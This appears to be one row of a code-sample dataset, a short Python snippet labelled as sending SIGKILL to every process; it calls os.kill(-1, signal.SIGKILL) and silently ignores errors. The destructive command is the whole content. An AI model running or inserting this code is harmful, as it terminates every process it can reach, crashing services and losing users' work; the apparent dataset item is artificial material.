# row: 40
# about: sends SIGKILL to every process

# %% after
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
